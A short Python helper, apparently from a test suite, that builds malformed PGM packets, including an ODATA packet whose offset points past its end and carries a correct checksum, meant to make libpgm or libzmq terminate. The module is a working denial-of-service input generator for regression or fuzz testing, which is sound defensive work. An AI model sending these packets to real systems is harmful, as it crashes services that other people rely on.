"""Packets that are malformed, as an attacker sends them."""

import struct


def malformed_packet(kind, port):
    """Make a PGM packet that libpgm or libzmq ends the process over."""
    if kind == "empty":
        return b""
    # ODATA: a sequence and a trail, then the offset that libzmq reads, here behind the end.
    body, size = (bytes(2), 100) if kind == "short" else (struct.pack(">IIH", 5, 0, 0x7FFF) + b"x" * 10, 12)
    made = bytearray(struct.pack(">HHBBH6sH", 7500, port, 4, 0, 0, b"abcdef", size) + body)
    total = sum(struct.unpack(f">{len(made) // 2}H", made))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    made[6:8] = struct.pack(">H", ~total & 0xFFFF or 0xFFFF)
    return bytes(made)
